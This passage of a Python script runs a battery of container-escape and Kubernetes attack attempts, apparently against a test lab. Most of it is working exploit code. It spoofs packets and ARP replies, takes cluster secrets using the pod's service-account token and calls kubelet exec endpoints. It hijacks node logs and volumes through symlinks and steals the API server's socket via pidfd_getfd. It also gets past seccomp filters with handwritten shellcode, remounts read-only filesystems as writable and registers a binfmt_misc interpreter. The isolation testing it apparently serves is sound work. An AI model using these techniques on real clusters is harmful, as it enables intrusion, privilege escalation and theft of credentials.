    udp = struct.pack(">HHHH", 9999, int(CONFIG["udp"]), 8 + len(text), 0) + text
    head = struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target)
    )
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + udp


def send_as_others() -> str:
    """UDP to the victim from addresses that are not ours, by a raw socket and by frames; and one that is ours."""
    victim, node = CONFIG["victim"], CONFIG["node"]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plain:
        plain.sendto(b"genuine", (victim, int(CONFIG["udp"])))
    sources = [CONFIG["neighbour"], node, "10.96.0.10", "10.0.0.1", "192.0.2.7"]
    lines = []
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for source in sources:
            packet = udp_packet(source, victim, b"spoofed-raw " + source.encode())
            lines.append(tried(f"raw {source}", raw.sendto, packet, (victim, 0)))
    with open("/sys/class/net/eth0/address", encoding="ascii") as file:
        own = bytes.fromhex(file.read().strip().replace(":", ""))
    gateway = b"\x0a\x00" + own[2:]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as frames:
        frames.bind(("eth0", 0))
        for source in sources:
            packet = udp_packet(source, victim, b"spoofed-frame " + source.encode())
            lines.append(tried(f"frame {source}", frames.send, gateway + own + b"\x08\x00" + packet))
            claim = struct.pack(">HHBBH", 1, 0x0800, 6, 4, 2) + own + socket.inet_aton(source)
            frames.send(gateway + own + b"\x08\x06" + claim + gateway + socket.inet_aton(node))
    return "\n".join(lines)


def secrets_by_token() -> str:
    """The API, with the token that the pod has."""
    import ssl
    import urllib.error
    import urllib.request

    directory = "/var/run/secrets/kubernetes.io/serviceaccount"
    context = ssl.create_default_context(cafile=f"{directory}/ca.crt")
    base = f"https://{os.environ['KUBERNETES_SERVICE_HOST']}:{os.environ['KUBERNETES_SERVICE_PORT']}"
    lines = []
    for path in ("/api/v1/secrets", "/api/v1/namespaces/victim/secrets/canary", "/api/v1/nodes/node1/proxy/pods"):
        request = urllib.request.Request(base + path, headers={"Authorization": f"Bearer {read(directory + '/token')}"})
        try:
            with urllib.request.urlopen(request, timeout=5, context=context) as answer:
                lines.append(f"OPEN {answer.read(10000)!r}")
        except urllib.error.HTTPError as error:
            lines.append(f"{path}: {error.code}")
    return "\n".join(lines)


def kubelet_port() -> str:
    import ssl
    import urllib.error
    import urllib.request

    lines = []
    for path in ("/pods", "/exec/victim/victim/c?command=env", "/logs/", "/run/victim/victim/c"):
        try:
            context = ssl._create_unverified_context()
            with urllib.request.urlopen(f"https://{CONFIG['node']}:10250{path}", timeout=5, context=context) as answer:
                lines.append(f"OPEN {answer.read(10000)!r}")
        except urllib.error.HTTPError as error:
            lines.append(f"{path}: {error.code}")
        except OSError as error:
            lines.append(f"{path}: {error}")
    return "\n".join(lines)


# Attempts of the node's root against the lab's own parts.


def files_of_the_node():
    """Files below the node's root, also what the runtime keeps of pods."""
    for directory, names, files in os.walk("/host"):
        names[:] = [name for name in names if name not in PRUNED]
        for name in files:
            yield f"{directory}/{name}"


def replace_logs() -> str:
    """The log of the container that prints "log-of-the-talker" becomes a link to a file of the user's."""
    text, replaced = "log-of-" + "the-talker", []
    for path in files_of_the_node():
        try:
            if not path.endswith(".log") or text not in read(path, 1 << 16):
                continue
            os.unlink(path)
            os.symlink(CONFIG["home"] + "/canary", path)
            replaced.append(path)
        except OSError:
            continue
    return f"replaced {len(replaced)}"


def replace_volumes() -> str:
    """The volume that has the file `mark` becomes a link to the machine's directory; files beside it, too."""
    replaced = []
    for path in files_of_the_node():
        try:
            if not path.endswith("/mark") or "volume-of-" + "the-starter" not in read(path):
                continue
            volume = os.path.dirname(path)
            os.rename(volume, volume + "-old")
            os.symlink(CONFIG["home"], volume)
            replaced.append(volume)
            pod = os.path.dirname(os.path.dirname(os.path.dirname(volume)))
            for name in ("etc-hosts", "resolv.conf", "hostname"):
                if os.path.exists(f"{pod}/{name}"):
                    os.unlink(f"{pod}/{name}")
                    os.symlink(CONFIG["home"] + "/kept", f"{pod}/{name}")
        except OSError:
            continue
    return f"replaced {len(replaced)}"


def machine_sockets() -> str:
    """The socket on which the API listens on the machine, taken from a process that has it. Disconnected by
    connect(2) to AF_UNSPEC it could connect to anything that the machine can; it is not done here, since the API would
    listen no more."""
    found = set()
    for pid in processes():
        try:
            pidfd = syscall("pidfd_open", pid, 0)
            numbers = [int(n) for n in os.listdir(f"/proc/{pid}/fd")]
        except OSError as error:
            found.add(named(error.errno or 0))
            continue
        for number in numbers:
            try:
                if not os.readlink(f"/proc/{pid}/fd/{number}").startswith("socket:"):
                    continue
                taken = socket.socket(fileno=syscall("pidfd_getfd", pidfd, number, 0))
            except OSError as error:
                found.add(named(error.errno or 0))
                continue
            with taken:
                listens = taken.family == socket.AF_INET and taken.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
                if listens and "{}:{}".format(*taken.getsockname()) == CONFIG["api"]:
                    found.add(f"OPEN the API's socket, of {read(f'/proc/{pid}/comm').strip()}")
    return "\n".join(sorted(found)) or "none"


def state_by_process() -> str:
    """The lab's store and keys, by the roots of the processes that can be seen."""
    found = set()
    for pid in os.listdir("/proc"):
        for base in (f"/proc/{pid}/root", f"/host/proc/{pid}/root"):
            for name in ("store/cluster.db", "pki/sa.key", "pki/ca.key", "pki/admin.key", "pki/apiserver.key"):
                if pid.isdigit():
                    seen = read(f"{base}{CONFIG['state']}/{name}", 64)
                    found.add(f"{name}: {seen if seen in errno.errorcode.values() else 'OPEN'}")
    return "\n".join(sorted(found))


def by_gate(gate: str, number: int, first: int, second: int = 0) -> str:
    """A system call by another way into the kernel: "int 0x80" (as 32-bit programs do) or "x32"."""
    import mmap

    if os.uname().machine != "x86_64":
        return "EPERM: no such way on this processor"
    if gate == "int 0x80":
        code = b"\x53\xb8" + struct.pack("<I", number) + b"\xbb" + struct.pack("<I", first & 0xFFFFFFFF)
        code += b"\xb9" + struct.pack("<I", second & 0xFFFFFFFF) + b"\x31\xd2\x31\xf6\x31\xff\xcd\x80\x5b\x48\x98\xc3"
    else:
        code = b"\xb8" + struct.pack("<I", number | 0x40000000) + b"\xbf" + struct.pack("<I", first & 0xFFFFFFFF)
        code += b"\xbe" + struct.pack("<I", second & 0xFFFFFFFF) + b"\x31\xd2\x0f\x05\xc3"
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    result = ctypes.CFUNCTYPE(ctypes.c_long)(address)()
    result = result - (1 << 32) if result > 1 << 31 else result
    return f"OPEN {result}" if result >= 0 else named(-result)


def in_a_child(function, *arguments) -> str:
    """The kernel may kill the caller."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.write(writer, function(*arguments).encode())
        os._exit(0)
    os.close(writer)
    _, status = os.waitpid(child, 0)
    with open(reader, encoding="ascii") as answer:
        return answer.read() or f"killed by signal {os.WTERMSIG(status)}"


def write_to_read_only() -> str:
    """Mounts that are read-only, made writable, and a file put into each."""
    lines = []
    for point in mount_points():
        if not os.path.isdir(point) or not os.statvfs(point).f_flag & os.ST_RDONLY:
            continue
        flags = MS_REMOUNT | MS_BIND | os.statvfs(point).f_flag & (MS_NOSUID | MS_NODEV | 8)
        line = tried(f"remount {point}", mount, "", point, "", flags)
        for directory in (point, *(f"{point}/{name}" for name in os.listdir(point)[:50])):
            path = f"{directory}/escaped-remount"
            try:
                os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755))
                os.unlink(path)
                line += f", WRITTEN {directory}"
            except OSError as error:
                line += f", {named(error.errno or 0)}" if directory == point else ""
        lines.append(line)
    return "\n".join(lines)


def tiny_program(path: str) -> bytes:
    """An ELF executable at a fixed address that writes the file `path` to its standard output."""
    code = bytes.fromhex(
        "b802000000488d3d4200000031f60f05"  # open(path, O_RDONLY)
        "89c74881ec001000004889e6ba0010000031c00f05"  # read(fd, stack, 4096)
        "89c2bf010000004889e6b8010000000f05"  # write(1, stack, count)
        "b83c00000031ff0f05"  # exit(0)
    )
    start = 0x400078
    code = code[:8] + struct.pack("<i", len(code) - 12) + code[12:] + path.encode() + b"\0"
    size = 120 + len(code)
    head = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, start, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return head + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 0x1000) + code


def register_interpreter() -> str:
    """A program for all position-independent executables that are started in this user namespace (binfmt_misc)."""
    if read("/proc/self/uid_map").split()[1:] == ["0", "4294967295"]:
        return "OPEN: this is the machine's own user namespace"  # and it would be all of the machine's programs
    os.makedirs("/tmp/formats", exist_ok=True)
    mount("binfmt_misc", "/tmp/formats", "binfmt_misc")
    with open("/tmp/interpreter", "wb") as file:
        file.write(tiny_program(CONFIG["home"] + "/canary"))
    os.chmod("/tmp/interpreter", 0o755)
    name = "escaped"
    magic = "\\x7fELF\\x02\\x01\\x01" + "\\x00" * 9 + "\\x03"
    mask = "\\xff" * 4 + "\\x00" * 12 + "\\xff"
    with open("/tmp/formats/register", "w", encoding="ascii") as file:
        file.write(f":{name}:M:0:{magic}:{mask}:/tmp/interpreter:F")
    return "OPEN registered"


def remove_interpreter() -> str:
    with open("/tmp/formats/escaped", "w", encoding="ascii") as file:
        file.write("-1")
    return "removed"


def compatible_calls() -> str:
    """unshare(CLONE_NEWUSER), keyctl(KEYCTL_GET_KEYRING_ID, session) and io_uring_setup past a filter that looks at
    64-bit calls only."""
    calls = {"unshare": (310, 272, CLONE_NEWUSER, 0), "keyctl": (288, 250, 0, -3), "userfaultfd": (374, 323, 0, 0)}
    lines = []
    for name, (number32, number64, first, second) in calls.items():
        lines.append(f"int 0x80 {name}: {in_a_child(by_gate, 'int 0x80', number32, first, second)}")
        lines.append(f"x32 {name}: {in_a_child(by_gate, 'x32', number64, first, second)}")
    return "\n".join(lines)


def clone_into_namespaces() -> str:
    """clone(2) and clone3(2) with CLONE_NEWUSER."""

    def clone() -> str:
        number = 56 if os.uname().machine == "x86_64" else 220
        result = libc.syscall(ctypes.c_long(number), ctypes.c_long(CLONE_NEWUSER | 17), 0, 0, 0, 0)
        if result == 0:
            os._exit(0)
        return f"OPEN {result}" if result > 0 else named(ctypes.get_errno())

    def clone3() -> str:
        arguments = struct.pack("<QQQQQQQQ", CLONE_NEWUSER, 0, 0, 0, 17, 0, 0, 0)
        result = libc.syscall(ctypes.c_long(435), arguments, ctypes.c_long(len(arguments)))
        if result == 0:
            os._exit(0)
        return f"OPEN {result}" if result > 0 else named(ctypes.get_errno())

    return f"clone: {in_a_child(clone)}\nclone3: {in_a_child(clone3)}"


def virtual_machine_sockets() -> str:
    """AF_VSOCK, which leads to the hypervisor."""
    return tried("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).close())


def status_of_first() -> str:
    return read("/proc/1/status", 1 << 16)


def run(name: str) -> str:
    """One attempt in a process of its own; what it wrote and returned."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.setsid()
        os.close(reader)
        os.dup2(writer, 1)
        try:
            text = globals()[name]()
        except OSError as error:
            text = named(error.errno or 0)
        except BaseException as error:  # noqa: BLE001 - what went wrong is the answer, and the child goes no further
            text = f"{type(error).__name__}: {error}"
        os.write(1, text.encode("utf-8", "replace")[: 1 << 19])
        os._exit(0)
    os.close(writer)
    seen, end = b"", time.monotonic() + PATIENCE + (WATCHING if name == "watch_for_exec" else 0)
    while select.select([reader], [], [], max(0.0, end - time.monotonic()))[0]:
        data = os.read(reader, 1 << 16)
        if not data:
            break
        seen += data
    else:
        seen += b"\nnot finished in time"
    os.close(reader)
    with contextlib.suppress(ProcessLookupError):
        os.killpg(child, signal.SIGKILL)
    os.waitpid(child, 0)
    return seen.decode("utf-8", "replace")


def main(configuration: str, *names: str) -> None:
    CONFIG.update(json.loads(configuration))
    for name in names:
        began = time.monotonic()
        answer = {"attempt": name, "seen": run(name), "seconds": time.monotonic() - began}
        sys.stdout.write(json.dumps(answer) + "\n")
        sys.stdout.flush()


if __name__ == "__main__":
    main(*sys.argv[1:])
